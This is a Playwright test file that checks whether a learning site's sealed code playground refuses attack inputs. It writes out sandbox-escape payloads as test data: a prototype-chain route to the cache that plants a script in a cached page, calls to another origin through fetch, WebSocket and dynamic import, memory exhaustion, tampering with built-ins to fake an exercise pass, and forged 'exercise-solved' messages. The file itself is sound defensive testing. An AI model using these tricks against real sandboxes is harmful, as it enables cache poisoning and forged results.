// Attacks on the sealed room, each as an attacker would send it (through the
// runner lab, the exercise page or an embed), against the built site with its
// service worker active: the attack is refused in plain words, and nothing of
// the site's origin (caches, IndexedDB, OPFS, locks, the network) is touched.
import { test, expect, type Page } from '@playwright/test';

const OTHER_ORIGIN = process.env.OTHER_ORIGIN ?? 'http://127.0.0.1:4323';
const SEALED = 'is not available here: code in the playground runs sealed off';

test.describe.configure({ timeout: 120_000 });

/** The site's service worker on (it is off in automated browsers), controlling the page, its caches filled. */
async function withServiceWorker(page: Page): Promise<void> {
  await page.context().addInitScript(() => ((window as { __esServiceWorker?: boolean }).__esServiceWorker = true));
  await page.goto('/slides/1');
  await expect(page.locator('html')).toHaveAttribute('data-sw', 'ready', { timeout: 90_000 });
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
}

async function openLab(page: Page): Promise<void> {
  await page.goto('/lab/runner');
  await expect(page.locator('html[data-runner-lab="ready"]')).toBeAttached();
}

async function run(page: Page, code: string): Promise<void> {
  await page.locator('#code').fill(code);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
}

const alert = (page: Page) => page.locator('#error');
const state = (page: Page) => page.getByRole('region', { name: 'State' }).locator('pre');
const decider = (initial: string): string =>
  `export const decider = { initialState: () => (${initial}), evolve: (s: unknown) => s, decide: () => [] };`;

/** What the site's origin holds, read from the page (which is where it lives). */
async function originFootprint(page: Page) {
  return page.evaluate(async () => {
    const cached: string[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        if (!/\/slides\/1(\/|\/index\.html|\.html)?(\?|$)/.test(request.url)) continue;
        const slide = await cache.match(request);
        if (slide) cached.push((await slide.text()).includes('Event Sourcing') ? 'slide 1 intact' : 'slide 1 CHANGED');
      }
    }
    const databases = (await indexedDB.databases()).map((db) => db.name ?? '');
    const opfs: string[] = [];
    const root = await navigator.storage.getDirectory();
    for await (const name of (root as unknown as { keys(): AsyncIterable<string> }).keys()) opfs.push(name);
    const locks = await navigator.locks.query();
    return { cached, databases, opfs, held: (locks.held ?? []).length, pending: (locks.pending ?? []).length };
  });
}

test("the prototype chain's Cache Storage getter, IndexedDB, OPFS and Web Locks are out of reach", async ({ page }) => {
  await withServiceWorker(page);
  await openLab(page);
  const before = await originFootprint(page);
  expect(before.cached).toContain('slide 1 intact');

  // The exact path that poisoned the service worker's cache before the room existed.
  await run(page, `const proto = Object.getPrototypeOf(Object.getPrototypeOf(self));
const store = Object.getOwnPropertyDescriptor(proto, 'caches')!.get!.call(self);
store.open('pages').then((cache: Cache) => cache.put('/slides/1', new Response('<script>stolen()</script>')));
${decider('0')}`);
  await expect(alert(page)).toContainText(`\`self\` ${SEALED}`);

  // Without `self`: the compartment's own global has nothing up its chain.
  await run(page, `const proto = Object.getPrototypeOf(globalThis);
const getter = Object.getOwnPropertyDescriptor(proto, 'caches');
${decider('String(getter)')}`);
  await expect(state(page)).toContainText('"undefined"');

  await run(page, `indexedDB.open('stolen');\n${decider('0')}`);
  await expect(alert(page)).toContainText(`\`indexedDB\` ${SEALED}`);
  await run(page, `navigator.storage.getDirectory().then((d: any) => d.getFileHandle('big', { create: true }));\n${decider('0')}`);
  await expect(alert(page)).toContainText(`\`navigator\` ${SEALED}`);
  await run(page, `navigator.locks.request('forever', () => new Promise(() => {}));\n${decider('0')}`);
  await expect(alert(page)).toContainText(`\`navigator\` ${SEALED}`);

  expect(await originFootprint(page)).toEqual(before);
});

test('no request leaves the room: fetch, WebSocket, importScripts and import() to another origin', async ({ page, request }) => {
  await withServiceWorker(page);
  await openLab(page);
  const beacons = async () => Number(await (await request.get(`${OTHER_ORIGIN}/beacons`)).text());
  const sent = await beacons();
  for (const [name, attack] of [
    ['fetch', `fetch('${OTHER_ORIGIN}/beacon/fetch');`],
    ['WebSocket', `new WebSocket('${OTHER_ORIGIN.replace('http', 'ws')}/beacon/ws');`],
    ['importScripts', `importScripts('${OTHER_ORIGIN}/beacon/import-scripts');`],
  ] as const) {
    await run(page, `${attack}\n${decider('0')}`);
    await expect(alert(page)).toContainText(`\`${name}\` ${SEALED}`);
  }
  await run(page, `const later = import('${OTHER_ORIGIN}/beacon/import');\n${decider('0')}`);
  await expect(alert(page)).toContainText('import expression rejected');
  // Built at run time, out of the compiler's sight: refused all the same.
  await run(page, `${decider(`new Function('return imp' + 'ort("${OTHER_ORIGIN}/beacon/function")')()`)}`);
  await expect(alert(page)).toContainText('import expression rejected');
  expect(await beacons()).toBe(sent);
});

test('runaway memory is stopped, the message names memory, the page lives and the next run works', async ({ page }) => {
  await openLab(page);
  await run(page, `const keep: number[][] = [];\nfor (;;) keep.push(new Array(1e6).fill(1));\n${decider('0')}`);
  await expect(alert(page)).toContainText('memory', { timeout: 15_000 });
  await run(page, decider('{ alive: true }'));
  await expect(state(page)).toContainText('"alive": true');
  await expect(alert(page)).toBeEmpty();
});

test('a state that grows through a getter between reads crosses once, measured, and is cut', async ({ page }) => {
  await openLab(page);
  await run(page, `let reads = 0;
${decider("({ get big() { reads += 1; return reads > 1 ? 'x'.repeat(300_000_000) : 'small'; } })")}`);
  await expect(page.getByRole('region', { name: 'State' })).toContainText(/larger than 200 KB|"big": "small"/, { timeout: 15_000 });
  await run(page, decider('{ alive: true }'));
  await expect(state(page)).toContainText('"alive": true');
});

test('a top-level timer that throws cannot start a crash loop: refused with its line and column', async ({ page }) => {
  await openLab(page);
  await run(page, `${decider('0')}\nsetTimeout(() => { throw new Error('again'); }, 50);`);
  await expect(alert(page)).toContainText(`\`setTimeout\` ${SEALED}`);
  await expect(alert(page)).toContainText(/line 2, column \d+/);
  await page.waitForTimeout(500); // would be ten restarts under the old runner
  await expect(page.getByRole('status')).not.toContainText('restarted');
});

const phone = { width: 390, height: 844 };

for (const tamper of ['Object.is = () => true;', 'Array.prototype.every = function () { return true; };', 'JSON.stringify = () => "same";']) {
  test(`tampering with intrinsics does not pass an exercise: ${tamper}`, async ({ page }) => {
    await page.setViewportSize(phone);
    await page.goto('/exercises/fold-a-stream');
    const field = page.getByRole('textbox', { name: /Your code for the exercise/ });
    const start = await field.inputValue();
    await field.fill(`${tamper}\n${start}`);
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await expect(page.getByRole('alert')).toContainText(/read only|Cannot assign/, { timeout: 20_000 });
    await expect(page.getByText(/Solved!/)).toHaveCount(0);
    // And swallowing the refusal does not help: the checks still run on frozen intrinsics.
    await field.fill(`try { ${tamper} } catch {}\n${start}`);
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await expect(page.locator('.ex-check.is-fail').first()).toBeVisible({ timeout: 20_000 });
    await expect(page.getByText(/Solved!/)).toHaveCount(0);
    expect(await page.evaluate(() => localStorage.getItem('esi:exercises:progress') ?? '')).not.toContain('fold-a-stream');
  });
}

test('learner code in an embed cannot forge "exercise-solved" to the trainer page, nor a runner reply', async ({ page }) => {
  await page.setViewportSize({ width: 900, height: 900 });
  await page.goto(`${OTHER_ORIGIN}/host?src=/embed/exercises/fold-a-stream`);
  const frame = page.frameLocator('iframe[title="Embedded exercise"]');
  await expect(frame.getByRole('button', { name: 'Check', exact: true })).toBeEnabled({ timeout: 20_000 });
  const forged = "{ source: 'event-sourcing-interactive', type: 'exercise-solved', id: 'fold-a-stream' }";
  const attempts = [
    `postMessage(${forged})`,
    `self.postMessage({ id: 'guess', type: 'RETURN', value: { ok: true, passed: true, checks: [] } })`,
    `(globalThis as any).parent.postMessage(${forged}, '*')`,
  ];
  const code = `export const seen = [${attempts.map((attempt) => `(() => { try { ${attempt}; return 'sent'; } catch (e) { return String(e); } })()`).join(', ')}];
throw new Error('seen: ' + seen.join(' | '));`;
  // Into Monaco as one paste-like input: select all, then insert the text.
  await frame.locator('.monaco-editor').first().click();
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText(code);
  await frame.getByRole('button', { name: 'Check', exact: true }).click();
  const report = frame.getByRole('alert').filter({ hasText: 'seen:' });
  await expect(report).toContainText(`\`postMessage\` ${SEALED}`, { timeout: 20_000 });
  await expect(report).toContainText(`\`self\` ${SEALED}`);
  await expect(report).not.toContainText(/\bsent\b/);
  const received = await page.evaluate(() => (window as unknown as { received: unknown[] }).received);
  expect(JSON.stringify(received)).not.toContain('exercise-solved');
});
